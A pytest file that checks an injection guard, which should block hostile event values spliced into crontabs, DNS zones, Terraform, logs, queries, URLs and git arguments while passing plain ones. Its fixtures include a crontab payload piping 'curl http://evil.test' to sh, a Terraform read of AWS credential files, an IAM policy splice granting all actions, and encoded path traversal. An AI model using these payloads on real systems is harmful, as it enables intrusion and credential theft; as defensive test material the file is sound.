"""What a forty-third set of programs by others showed. Each has its harmless twins."""

from __future__ import annotations

from pathlib import Path

import pytest

from casemate.guard.origin import Origin, Span
from casemate.guard.written.by_look import judge_structured, judge_terraform
from support.guard_cases import Cases, assert_blocked, assert_passes

# -- texts that the code takes apart itself, known by their look --------------------------------------------

TAKEN_APART = """
import io, re, tempfile
from string import Template
def handler(event, context):
    v = event["v"]
    text = MADE
    return READ
"""
LOOKS: dict[str, tuple[str, str, str, tuple[str, ...]]] = {
    "crontab": (
        "'\\n'.join(['SHELL=/bin/sh', f'MAILTO={v}', \"0 5 * * 1 /opt/run --name 'a'\"]) + '\\n'",
        "[line for line in text.splitlines() if line]",
        "file",
        ("a@b.test\n* * * * * id", "x\nSHELL=/tmp/evil.sh"),
    ),
    "command of a crontab": (
        "f\"MAILTO=ops\\n0 5 * * 1 /opt/run --name '{v}'\\n\"",
        "text.split('\\n')",
        "file",
        ("a'; curl http://evil.test | sh; '", "x'\n@reboot touch /tmp/x #"),
    ),
    "zone": (
        "Template('$$ORIGIN example.net.\\nwww IN A 192.0.2.1\\n$r').substitute("
        "r=f'_v IN TXT \"{v}\"')",
        "[line.split() for line in io.StringIO(text)]",
        "header",
        ('abc"\nwww IN A 203.0.113.66 ; "', 'x"\nlogin IN CNAME evil.test.\n_z IN TXT "y'),
    ),
    "calendar": (
        "'\\r\\n'.join(['BEGIN:VCALENDAR', 'BEGIN:VEVENT', 'LOCATION:' + v, 'END:VEVENT', ''])",
        "re.sub(r'\\r\\n[ \\t]', '', text).splitlines()",
        "header",
        ("1\r\nURL:https://evil.test", "1\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Pay now"),
    ),
    "Terraform": (
        '\'resource "aws_s3_bucket" "b" {{\\n  owner = "{}"\\n}}\\n\'.format(v)',
        're.findall(r\'"[^"]*"|\\w+\', text)',
        "file",
        ('x"\n}\nresource "aws_iam_user" "e" {\n  name = "e', '${file("/root/.aws/credentials")}'),
    ),
    "structured data": (
        'f\'<109>1 2026-01-05T10:00:00Z edge app - - [audit@1 actor="{v}" ok="no"] done\'',
        "text.partition(' - - ')",
        "log",
        ('eve" ok="yes', 'x" ok="no"] root logged in '),
    ),
    "samples": (
        "f'iot.up:1|c|#site:{v}\\niot.down:0|c\\n'",
        "[line.partition(':') for line in text.split('\\n')]",
        "header",
        ("a\nbilling.credit:100|c", "b|c\nx:1|g"),
    ),
    "sequences": (
        "f'>ref|A control\\nACGT\\n>sub|S {v.strip()}\\nACGT\\n'",
        "[line for line in text.splitlines() if line.startswith('>')]",
        "header",
        ("H. sapiens\n>ref|B control\nTTTT", "Mus\nGGGG"),
    ),
}
PLAIN = (
    "Data Platform",
    "O'Hara & sons",
    "gr\u00f6\u00dfe \U0001f680",
    "a; b, c: [d]",
    "$100 (50%)",
)


@pytest.mark.parametrize("look", LOOKS)
def test_data_begins_nothing_in_what_the_code_takes_apart(tmp_path: Path, look: str) -> None:
    made, read, sink, hostile = LOOKS[look]
    code = TAKEN_APART.replace("MADE", made).replace("READ", read)
    assert_blocked(tmp_path, {v: (code, {"v": v}) for v in hostile}, {sink}, ())
    plain = [v for v in PLAIN if look != "command of a crontab" or "'" not in v]
    assert_passes(tmp_path, {v: (code, {"v": v}) for v in plain}, ())


def test_what_is_escaped_ends_nothing_there(tmp_path: Path) -> None:
    ends = {
        "calendar": (
            'v.replace(",", "\\\\,").replace("\\n", "\\\\n").replace("\\r", "")',
            "a\r\nX:1",
        ),
        "Terraform": (
            'v.replace(chr(34), "").replace("${", "$${").replace("\\n", " ")',
            'a "b" ${c}\n',
        ),
        "structured data": ("v.replace('\"', '\\\\\"')", 'the "big" one'),
        "sequences": ('" ".join(v.split())', "a\n>ref|X b"),
        "crontab": ('v.replace("\\n", "")', "a\n* * * * * id"),
    }
    cases: Cases = {}
    for look, (escaped, value) in ends.items():
        code = TAKEN_APART.replace('event["v"]', f'(lambda v: {escaped})(event["v"])')
        code = code.replace("MADE", LOOKS[look][0]).replace("READ", LOOKS[look][1])
        cases = {**cases, look: (code, {"v": value})}
    assert_passes(tmp_path, cases, ())


def test_texts_of_other_looks_may_have_any_lines(tmp_path: Path) -> None:
    made = {
        "letter": "f'Dear {v},\\n\\nthanks.\\n'",
        "quoted": "'> ' + v + '\\n> more\\n'",
        "data": "'data about ' + v + '\\n{}\\n'",
    }
    cases: Cases = {
        f"{name} {value}": (
            TAKEN_APART.replace("MADE", text).replace("READ", "text.splitlines()"),
            {"v": value},
        )
        for name, text in made.items()
        for value in ("Ann\nBob", "x\n* * * * * id", "$ORIGIN a\nwww IN A 1", ">ref|A\nACGT")
    }
    assert_passes(tmp_path, cases, ())


def test_looks_are_judged_in_linear_time() -> None:
    origin = Origin("event", ("v",))
    part = '"' * 20_000 + "${" * 10_000
    text = 'resource "a" "b" {\n  x = "' + part + '"\n}\n'
    judge_terraform(text, [Span(26, 26 + len(part), origin, exact=True)])
    text = '<1>1 a [b c="' + "\\" * 30_000 + "]" * 10_000
    judge_structured(text, [Span(13, len(text), origin, exact=True)])


# -- engines of the code's own ------------------------------------------------------------------------------

PICKED = """
def find(path, doc):
    return path
def handler(event, context):
    names = {"name": "name", "temperature": "temp", "gr\u00f6\u00dfe": "gr\u00f6\u00dfe"}
    return find(f"$.devices['pump'].public.{names.get(event['v'], event['v'])}", {})
"""
SEARCHED = """
import re
class Engine:
    def search(self, q):
        return q
def escape(text):
    return re.sub(r'([+&|!(){}^"~*?:/-])', r'\\\\\\1', text)
def handler(event, context):
    q = f"tenant:acme AND title:({event.get('v') or '*'})"
    if event.get("phrase"):
        q += ' AND body:"' + escape(event["phrase"]) + '"'
    return Engine().search(q)
"""


def test_data_is_one_key_of_a_path_for_the_code_s_own_engine(tmp_path: Path) -> None:
    hostile = ("^.private.psk", "name^^^.*.private", "^^..psk", "*", "x'] | @['y")
    assert_blocked(tmp_path, {v: (PICKED, {"v": v}) for v in hostile}, {"nosql"}, ())
    harmless = ("temp", "name", "gr\u00f6\u00dfe", "colour", "temperature")
    assert_passes(tmp_path, {v: (PICKED, {"v": v}) for v in harmless}, ())


def test_data_is_words_of_a_query_for_the_code_s_own_engine(tmp_path: Path) -> None:
    hostile = ("x) OR tenant:(globex", "pump) OR (*", "nope) OR NOT tenant:(acme")
    assert_blocked(tmp_path, {v: (SEARCHED, {"v": v}) for v in hostile}, {"nosql"}, ())
    harmless: tuple[dict[str, str], ...] = (
        {"v": "pump"},
        {"v": "o'brien gr\u00f6\u00dfe"},
        {"v": ""},
        {"v": "login", "phrase": "user ann"},
        {"phrase": 'x" OR tenant:(globex)'},
        {"phrase": "(a+b)*c && !d"},
    )
    assert_passes(tmp_path, {str(e): (SEARCHED, e) for e in harmless}, ())


# -- single places ------------------------------------------------------------------------------------------

KEYS = """
import fnmatch
DATA = ("cache:acme:product:1", "cache:acme:price:1")
def handler(event, context):
    pattern = f"cache:acme:{event['kind']}:{event['id'].strip()}*"
    return [k for k in DATA if fnmatch.fnmatchcase(k, pattern)]
"""


def test_a_star_beside_the_code_s_own_is_the_event_s(tmp_path: Path) -> None:
    hostile = (("*", "*"), ("*", "1"), ("product", " * "), ("p*", "?"), ("product", "[0-9]"))
    cases: Cases = {f"{k} {i}": (KEYS, {"kind": k, "id": i}) for k, i in hostile}
    assert_blocked(tmp_path, cases, {"path"}, ())
    harmless = (("price", "1"), ("product", "o'neill"), ("product", ""), ("gr\u00f6\u00dfe", "2"))
    cases = {f"{k} {i}": (KEYS, {"kind": k, "id": i}) for k, i in harmless}
    assert_passes(tmp_path, cases, ())


POLICY = """
import json
from pathlib import Path
from string import Template
def written():
    # as a file beside the program is read, before there is an event
    return "".join(['{"Statement": [{"Sid": "$project", "Effect": "Allow", ', '"Action": "get"}]}'])
T = Template(written())
def handler(event, context):
    return json.loads(T.substitute({"project": event["v"].strip()}))
"""


def test_a_template_that_was_there_before_is_the_code_s(tmp_path: Path) -> None:
    more = 'lab","Effect": "Deny"},{"Sid":"p","Effect": "Allow", "Action":"*"},{"Sid":"q'
    assert_blocked(tmp_path, {"more": (POLICY, {"v": more})}, {"deserialisation"}, ())
    harmless = ("lab", "O'Brien's lab {A}", "$$ ${days} $prefix", "a, b: [c]")
    assert_passes(tmp_path, {v: (POLICY, {"v": v}) for v in harmless}, ())


MAIL = """
from string import Template
def handler(event, context):
    return Template(event["text"]).safe_substitute({"name": event["name"], **MORE})
"""


def test_a_field_that_is_not_there_shows_nothing(tmp_path: Path) -> None:
    code = MAIL.replace("MORE", "{}")
    texts = ("$secret ${os} $$5 $", "Dear $name, ${password}")
    assert_passes(tmp_path, {t: (code, {"text": t, "name": "x"}) for t in texts}, ())
    there = MAIL.replace("MORE", "{'api_token': 'tok'}")
    cases: Cases = {"there": (there, {"text": "$api_token", "name": "x"})}
    assert_blocked(tmp_path, cases, {"template"}, ())


PIN = 'import re\nreturn re.findall(rf"^acme:{event["v"]}:(.*)$", "acme:4711:x", re.M)'


def test_signs_that_stand_for_any_are_no_pin(tmp_path: Path) -> None:
    assert_blocked(tmp_path, {v: (PIN, {"v": v}) for v in ("....", "..", "47.*")}, {"regex"}, ())
    assert_passes(
        tmp_path, {v: (PIN, {"v": v}) for v in ("4711", "a.b", ".", "...", "wait...")}, ()
    )


URL = """
import urllib.request
from urllib.parse import quote
def handler(event, context):
    try:
        urllib.request.urlopen("http://127.0.0.1:9/v1/devices/" + PART + "?view=public", timeout=1)
    except OSError:
        return "no answer"
"""


def test_encoded_slashes_lead_no_higher(tmp_path: Path) -> None:
    bare = URL.replace("PART", 'event["v"].strip()')
    hostile = ("..%2fadmin%2fkeys", "a%2F..%2F..%2Fkeys", "%2e%2e%5Cadmin")
    assert_blocked(tmp_path, {v: (bare, {"v": v}) for v in hostile}, {"url"}, ())
    quoted = URL.replace("PART", "quote(event['v'], safe='')")
    cases: Cases = {f"quoted {v}": (quoted, {"v": v}) for v in (*hostile, "../admin/keys")}
    cases = {**cases, **{v: (bare, {"v": v}) for v in ("pump-1", "a%2fb", "v1..2")}}
    assert_passes(tmp_path, cases, ())


RECORDS = """
import json, os
def handler(event, context):
    with open("/tmp/a.jsonl", "w") as kept:
        kept.write('{"temp": 20}\\n')
    with open("/tmp/a.jsonl", "a") as kept:
        kept.write(LINE + "\\n")
    with open("/tmp/a.jsonl") as kept:
        return [json.loads(line) for line in kept if line.strip()]
"""


def test_a_record_that_is_all_of_a_line_is_passed_on(tmp_path: Path) -> None:
    whole = RECORDS.replace("LINE", "json.dumps(json.loads(event['v']))")
    cases: Cases = {"whole": (whole, {"v": '{"temp": 22}'})}
    assert_passes(tmp_path, cases, ())
    spliced = RECORDS.replace("LINE", "'{\"note\": \"' + event['v'] + '\"}'")
    assert_blocked(tmp_path, {"spliced": (spliced, {"v": 'x", "admin": "1'})}, {"log"}, ())


def test_a_revision_behind_the_end_of_options_is_none(tmp_path: Path) -> None:
    run = 'import subprocess\nreturn subprocess.run(["git", "log", END, event["v"]]).returncode'
    after, before = run.replace("END", '"--end-of-options"'), run.replace("END", '"--oneline"')
    assert_blocked(tmp_path, {"option": (before, {"v": "--output=/tmp/x"})}, {"command"}, ())
    assert_passes(tmp_path, {"after": (after, {"v": "--output=x"})}, ())
